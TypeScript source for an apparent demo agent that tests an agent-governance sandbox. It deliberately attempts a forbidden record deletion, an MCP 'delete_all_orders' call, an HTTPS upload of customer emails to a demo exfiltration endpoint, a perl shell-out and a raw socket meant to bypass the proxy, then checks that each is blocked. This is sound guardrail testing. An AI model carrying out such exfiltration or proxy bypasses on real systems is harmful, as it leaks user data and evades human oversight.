// The TypeScript example agent: the Python agent's story (../python/agent.py) with the Node SDK.
//
//   examples/agents/typescript/build.sh            # tsc --strict → dist/agent.js
//   AA_DEMO_LLM_URL=… AA_DEMO_MCP_URL=… AA_DEMO_EXFIL_URL=… \
//     aasm run --policy examples/agents/policy -- node examples/agents/typescript/dist/agent.js
//
// In order, one line per step: tools under govern() (`summarize` runs, `delete_records` is denied
// before its body runs, `web_search` 4 times — the 4th denied by the budget); an LLM call with
// the official `openai` npm SDK; MCP with the official `@modelcontextprotocol/sdk` client
// (`lookup_order` works, `delete_all_orders` is refused by the proxy: -32003); an HTTPS upload to
// the exfil endpoint (403 from the proxy); shell-outs (`uname -s` runs, `/usr/bin/perl` is killed
// by the kernel layer); a raw TCP socket to the LLM stub's port that skips the proxy (a bypass).
// Node 20's fetch ignores HTTPS_PROXY: undici's EnvHttpProxyAgent, installed as the global
// dispatcher, makes every fetch (openai's, the MCP transport's, ours) follow HTTPS_PROXY/NO_PROXY;
// NODE_EXTRA_CA_CERTS trusts the proxy's CA. Expectations follow the run's layers as in the
// Python agent (AA_DEMO_LAYERS may name `ebpf`); the last line is the JSON summary
// `{"agent": "node", "ok": …, "layers": {…}, "steps": {…}}`, exit code 0 when all went as expected.
import { spawnSync } from 'node:child_process';
import { mkdtempSync } from 'node:fs';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { AgentAssemblyError, govern, init, PolicyDeniedError, shutdown } from 'agent-assembly';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { McpError } from '@modelcontextprotocol/sdk/types.js';
import OpenAI from 'openai';
import { EnvHttpProxyAgent, setGlobalDispatcher } from 'undici';

const AGENT = 'node';
type Step = { ok: boolean } & Record<string, unknown>;
const steps: Record<string, Step> = {};
const ran = { summarize: 0, delete_records: 0, web_search: 0 };

const named = new Set((process.env.AA_DEMO_LAYERS ?? '').split(',').map((s) => s.trim()).filter(Boolean));
const proxyUrl = process.env.HTTPS_PROXY ?? process.env.https_proxy;
const layers = {
  sdk: process.env.AA_GATEWAY_URL ? 'gateway' : process.env.AA_POLICY ? 'policy' : 'embedded-default',
  proxy: Boolean(proxyUrl) || named.has('proxy'),
  ebpf: named.has('ebpf'),
};
if (proxyUrl) setGlobalDispatcher(new EnvHttpProxyAgent());

function record(name: string, ok: boolean, detail: Record<string, unknown> = {}): void {
  steps[name] = { ok, ...detail };
  console.log(`[${AGENT}] ${ok ? 'ok  ' : 'FAIL'} ${name}: ${JSON.stringify(detail)}`);
}

/** Runs one step; an unexpected error fails that step, not the agent. */
async function step(name: string, fn: () => Promise<void> | void): Promise<void> {
  try {
    await fn();
  } catch (e) {
    record(name, false, { error: String(e instanceof Error ? `${e.name}: ${e.message}` : e).slice(0, 500) });
  }
}

function need(name: string): string {
  const v = process.env[name];
  if (!v) throw new Error(`${name} is not set (see examples/agents/upstreams.py)`);
  return v;
}

function denial(e: PolicyDeniedError): Record<string, unknown> {
  return { reason: e.reason, policy_ids: e.policyIds, budget: e.budget, message: e.message };
}

// --- 1. tools at SDK depth ------------------------------------------------------------------

const summarize = govern(
  async ({ text }: { text: string }): Promise<string> => {
    ran.summarize += 1;
    return text.slice(0, 40);
  },
  { tool: 'summarize' },
);
const deleteRecords = govern(
  async ({ table }: { table: string }): Promise<string> => {
    ran.delete_records += 1;
    return `deleted ${table}`;
  },
  { tool: 'delete_records' },
);
const webSearch = govern(
  async ({ query }: { query: string }): Promise<string> => {
    ran.web_search += 1;
    return `results for ${query}`;
  },
  { tool: 'web_search' },
);

async function sdkSteps(): Promise<void> {
  if (!process.env.AA_GATEWAY_URL && !process.env.AA_POLICY) {
    // No gateway and no policy: the SDK still governs, embedded, with the demo's policy.
    const here = dirname(fileURLToPath(import.meta.url));
    try {
      init({
        policy: join(here, '..', '..', 'policy'), // dist/ → examples/agents/policy
        agentId: process.env.AA_AGENT_ID ?? 'demo-node',
        auditFile: join(mkdtempSync(join(tmpdir(), 'aa-demo-')), 'audit.jsonl'),
      });
    } catch (e) {
      if (!(e instanceof AgentAssemblyError)) throw e;
      console.log(`[${AGENT}] the SDK could not start: ${e.message}`);
    }
  }
  await step('tool_allowed', async () => {
    const out = await summarize({ text: 'Quarterly revenue grew 12% on strong demand for widgets.' });
    record('tool_allowed', ran.summarize === 1, { tool: 'summarize', result: out });
  });
  await step('tool_forbidden', async () => {
    try {
      await deleteRecords({ table: 'customers' });
      record('tool_forbidden', false, { tool: 'delete_records', error: 'not denied' });
    } catch (e) {
      if (!(e instanceof PolicyDeniedError)) throw e;
      const bodyRan = ran.delete_records > 0;
      record('tool_forbidden', e.reason === 'forbidden' && !bodyRan, { tool: 'delete_records', body_ran: bodyRan, ...denial(e) });
    }
  });
  await step('tool_budget', async () => {
    const calls: string[] = [];
    let detail: Record<string, unknown> = {};
    for (let i = 1; i <= 4; i++) {
      try {
        await webSearch({ query: `agent governance ${i}` });
        calls.push('allow');
      } catch (e) {
        if (!(e instanceof PolicyDeniedError)) throw e;
        calls.push(e.reason);
        detail = denial(e);
      }
    }
    const ok = JSON.stringify(calls) === JSON.stringify(['allow', 'allow', 'allow', 'budget_exceeded']) && ran.web_search === 3;
    record('tool_budget', ok, { tool: 'web_search', calls, bodies_ran: ran.web_search, ...detail });
  });
}

// --- 2. the LLM call ------------------------------------------------------------------------

async function llmStep(): Promise<void> {
  const client = new OpenAI({ baseURL: need('AA_DEMO_LLM_URL'), apiKey: 'sk-demo-not-a-real-key', maxRetries: 0, timeout: 30_000 });
  const r = await client.chat.completions.create({
    model: 'gpt-4o-mini',
    messages: [{ role: 'user', content: 'Summarize our orders.' }],
  });
  const text = r.choices[0]?.message.content ?? null;
  record('llm', text === 'Hello' && r.usage != null, { model: r.model, text, usage: r.usage ?? null, via_proxy: layers.proxy });
}

// --- 3. MCP -----------------------------------------------------------------------------------

function textOf(result: unknown): string[] {
  const content = (result as { content?: { type: string; text?: string }[] }).content ?? [];
  return content.filter((c) => c.type === 'text').map((c) => c.text ?? '');
}

async function mcpSteps(): Promise<void> {
  const transport = new StreamableHTTPClientTransport(new URL(need('AA_DEMO_MCP_URL')));
  const client = new Client({ name: 'demo-node-agent', version: '1.0.0' });
  await client.connect(transport);
  try {
    const tools = (await client.listTools()).tools.map((t) => t.name);
    const got = textOf(await client.callTool({ name: 'lookup_order', arguments: { order_id: 'A-1001' } }));
    record('mcp_allowed', JSON.stringify(got) === JSON.stringify(['order A-1001: shipped']), {
      tool: 'lookup_order',
      result: got,
      tools_listed: tools,
    });
    try {
      const res = await client.callTool({ name: 'delete_all_orders', arguments: { confirm: true } });
      // Without the proxy nothing stands between the agent and the server.
      record('mcp_forbidden', !layers.proxy, { tool: 'delete_all_orders', refused: false, result: textOf(res) });
    } catch (e) {
      if (!(e instanceof McpError)) throw e;
      record('mcp_forbidden', e.code === -32003, { tool: 'delete_all_orders', refused: true, code: e.code, message: e.message, data: e.data });
    }
  } finally {
    await transport.terminateSession().catch(() => undefined);
    await client.close();
  }
}

// --- 4. egress to the exfil endpoint ---------------------------------------------------------

async function exfilStep(): Promise<void> {
  const r = await fetch(need('AA_DEMO_EXFIL_URL'), {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ customers: ['alice@example.com', 'bob@example.com'] }),
  });
  const body = (await r.text()).slice(0, 300);
  if (r.status === 403) record('exfil', layers.proxy, { status: r.status, reached: false, body });
  else record('exfil', !layers.proxy && r.ok, { status: r.status, reached: r.ok, body });
}

// --- 5. shell-outs --------------------------------------------------------------------------

function execSteps(): void {
  const u = spawnSync('uname', ['-s'], { encoding: 'utf8', timeout: 30_000 });
  record('exec_allowed', u.status === 0 && u.stdout.trim() !== '', {
    argv: ['uname', '-s'],
    returncode: u.status,
    signal: u.signal,
    stdout: u.stdout.trim(),
  });
  const argv = ['/usr/bin/perl', '-e', 'print 1'];
  const p = spawnSync(argv[0]!, argv.slice(1), { encoding: 'utf8', timeout: 30_000 });
  const killed = p.signal === 'SIGKILL';
  // Killed: the kernel layer stopped it. Ran: fine only in a run without the kernel layer.
  record('exec_forbidden', killed || (!layers.ebpf && p.status === 0), {
    argv,
    returncode: killed ? -9 : p.status,
    signal: p.signal,
    killed,
    stdout: (p.stdout ?? '').trim(),
    ...(p.error ? { error: String(p.error) } : {}),
  });
}

// --- 6. a raw socket past the proxy -----------------------------------------------------------

async function rawSocketStep(): Promise<void> {
  const port = Number(new URL(need('AA_DEMO_LLM_URL')).port || 443);
  const addr = `127.0.0.1:${port}`;
  try {
    await new Promise<void>((resolve, reject) => {
      const s = connect({ host: '127.0.0.1', port, timeout: 10_000 }, () => {
        s.end('GET /v1/models HTTP/1.1\r\nHost: localhost\r\n\r\n', () => resolve()); // not even TLS
      });
      s.on('error', reject);
      s.on('timeout', () => s.destroy(new Error('connect timed out')));
    });
    record('raw_socket', true, { addr, connected: true });
  } catch (e) {
    // Refused by the kernel layer (egress forced through the proxy) is a fine outcome too.
    record('raw_socket', layers.ebpf, { addr, connected: false, error: String(e) });
  }
}

console.log(`[${AGENT}] layers: ${JSON.stringify(layers)}`);
await sdkSteps();
await step('llm', llmStep);
await step('mcp_allowed', mcpSteps);
if (!('mcp_forbidden' in steps)) record('mcp_forbidden', false, { error: 'not reached' });
await step('exfil', exfilStep);
await step('exec', execSteps);
await step('raw_socket', rawSocketStep);
let delivered = false;
try {
  delivered = shutdown();
} catch (e) {
  console.log(`[${AGENT}] shutdown: ${String(e)}`);
}
const ok = Object.values(steps).every((s) => s.ok);
console.log(JSON.stringify({ agent: AGENT, ok, layers, audit_delivered: delivered, steps }));
process.exitCode = ok ? 0 : 1;
